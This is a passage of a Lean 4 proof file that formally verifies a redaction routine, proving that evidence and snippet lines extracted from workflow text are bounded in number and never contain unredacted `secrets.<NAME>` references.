            | exact absurd (take_eq_of_append_eq 1 hS (by decide) (by decide)) (by decide)

theorem subSecret_noleak (l : List Char) : NoSecretLeak (subSecret l) :=
  subSecretAux_noleak l.length l (Nat.le_refl _)

theorem redact_secrets_noleak (l : List Char) : NoSecretLeak (redact_secrets l) :=
  subSecret_noleak (subSecretExpr l)

theorem space_not_name (c : Char) (h : pyIsSpace c = true) :
    isSecretNameChar c = false := by
  simp only [pyIsSpace, Bool.or_eq_true, decide_eq_true_eq] at h
  rcases h with ((((rfl|rfl)|rfl)|rfl)|rfl)|rfl <;> rfl

theorem pyStrip_decomp (l : List Char) :
    ∃ w1 w2, l = w1 ++ pyStrip l ++ w2 ∧
      (∀ c ∈ w1, pyIsSpace c = true) ∧ (∀ c ∈ w2, pyIsSpace c = true) := by
  refine ⟨l.takeWhile pyIsSpace,
    ((l.dropWhile pyIsSpace).reverse.takeWhile pyIsSpace).reverse, ?_, ?_, ?_⟩
  · conv_lhs => rw [← List.takeWhile_append_dropWhile pyIsSpace l]
    rw [List.append_assoc]
    congr 1
    conv_lhs => rw [← (l.dropWhile pyIsSpace).reverse_reverse,
      ← List.takeWhile_append_dropWhile pyIsSpace (l.dropWhile pyIsSpace).reverse]
    rw [List.reverse_append]
    rfl
  · intro c hc; exact List.mem_takeWhile_imp hc
  · intro c hc
    rw [List.mem_reverse] at hc
    exact List.mem_takeWhile_imp hc

theorem NoSecretLeak_pyStrip {m : List Char} (h : NoSecretLeak m) :
    NoSecretLeak (pyStrip m) := by
  obtain ⟨w1, w2, hdec, h1, h2⟩ := pyStrip_decomp m
  intro u w rest heq hwne hwall hbound
  apply h (w1 ++ u) w (rest ++ w2) ?_ hwne hwall ?_
  · rw [hdec, heq]
    simp [List.append_assoc]
  · rcases hbound with rfl | ⟨c, cs, rfl, hc⟩
    · rcases hw2 : w2 with _ | ⟨c2, cs2⟩
      · left; simp
      · right
        refine ⟨c2, cs2, by simp, ?_⟩
        exact space_not_name c2 (h2 c2 (by rw [hw2]; exact List.mem_cons_self c2 cs2))
    · right
      exact ⟨c, cs ++ w2, by simp, hc⟩

theorem extractLinesAux_length (keep : List Char → Bool) (maxLines : Nat) :
    ∀ (lines acc : List (List Char)), acc.length < maxLines →
      (extractLinesAux keep maxLines lines acc).length ≤ maxLines := by
  intro lines
  induction lines with
  | nil =>
    intro acc hacc
    rw [extractLinesAux, List.length_reverse]
    omega
  | cons line rest ih =>
    intro acc hacc
    rw [extractLinesAux]
    by_cases hstop : (if keep line then pyStrip (redact_secrets line) :: acc else acc).length
        ≥ maxLines
    · rw [if_pos hstop, List.length_reverse]
      by_cases hk : keep line = true
      · rw [if_pos hk, List.length_cons]
        rw [if_pos hk, List.length_cons] at hstop
        omega
      · rw [if_neg hk]
        omega
    · rw [if_neg hstop]
      exact ih _ (by omega)

theorem extractLinesAux_mem (keep : List Char → Bool) (maxLines : Nat) :
    ∀ (lines acc : List (List Char)) (x : List Char),
      x ∈ extractLinesAux keep maxLines lines acc →
      x ∈ acc ∨ ∃ line ∈ lines, x = pyStrip (redact_secrets line) := by
  intro lines
  induction lines with
  | nil =>
    intro acc x hx
    rw [extractLinesAux, List.mem_reverse] at hx
    exact Or.inl hx
  | cons line rest ih =>
    intro acc x hx
    rw [extractLinesAux] at hx
    have hacc' : x ∈ (if keep line then pyStrip (redact_secrets line) :: acc else acc) →
        x ∈ acc ∨ ∃ l ∈ line :: rest, x = pyStrip (redact_secrets l) := by
      intro hx'
      by_cases hk : keep line = true
      · rw [if_pos hk, List.mem_cons] at hx'
        rcases hx' with rfl | hx'
        · exact Or.inr ⟨line, List.mem_cons_self line rest, rfl⟩
        · exact Or.inl hx'
      · rw [if_neg hk] at hx'
        exact Or.inl hx'
    by_cases hstop : (if keep line then pyStrip (redact_secrets line) :: acc else acc).length
        ≥ maxLines
    · rw [if_pos hstop, List.mem_reverse] at hx
      exact hacc' hx
    · rw [if_neg hstop] at hx
      rcases ih _ x hx with hin | ⟨l, hl, hxl⟩
      · exact hacc' hin
      · exact Or.inr ⟨l, List.mem_cons_of_mem line hl, hxl⟩

/-- C5: redaction completeness — `_extract_snippets` keeps at most 3 lines and
`_extract_evidence_lines` at most 8; every stored line is a stripped,
`_redact_secrets`-processed source line, and consequently no stored evidence
string contains the literal substring `secrets.<NAME>` (and hence no
`$\x7b\x7b secrets.<NAME> \x7d\x7d`) for any non-`REDACTED` name. -/
theorem redaction_completeness (text : List Char) :
    (extract_snippets text 3).length ≤ 3 ∧
    (extract_evidence_lines text 8).length ≤ 8 ∧
    (∀ line ∈ extract_snippets text 3,
      (∃ raw ∈ pySplitlines text, line = pyStrip (redact_secrets raw)) ∧
        NoSecretLeak line) ∧
    (∀ line ∈ extract_evidence_lines text 8,
      (∃ raw ∈ pySplitlines text, line = pyStrip (redact_secrets raw)) ∧
        NoSecretLeak line) := by
  refine ⟨extractLinesAux_length _ _ _ _ (by decide),
    extractLinesAux_length _ _ _ _ (by decide), ?_, ?_⟩
  · intro line hline
    rcases extractLinesAux_mem _ _ _ _ _ hline with hin | ⟨raw, hraw, rfl⟩
    · cases hin
    · exact ⟨⟨raw, hraw, rfl⟩, NoSecretLeak_pyStrip (redact_secrets_noleak raw)⟩
  · intro line hline
    rcases extractLinesAux_mem _ _ _ _ _ hline with hin | ⟨raw, hraw, rfl⟩
    · cases hin
    · exact ⟨⟨raw, hraw, rfl⟩, NoSecretLeak_pyStrip (redact_secrets_noleak raw)⟩

/-- Witness for C5 on a concrete workflow text containing a secret reference:
the extracted evidence line is stored and satisfies the no-leak invariant. -/
theorem redaction_completeness_witness :
    c5line ∈ extract_evidence_lines c5text 8 ∧ NoSecretLeak c5line := by
  have hm : c5line ∈ extract_evidence_lines c5text 8 := by decide
  exact ⟨hm, ((redaction_completeness c5text).2.2.2 c5line hm).2⟩
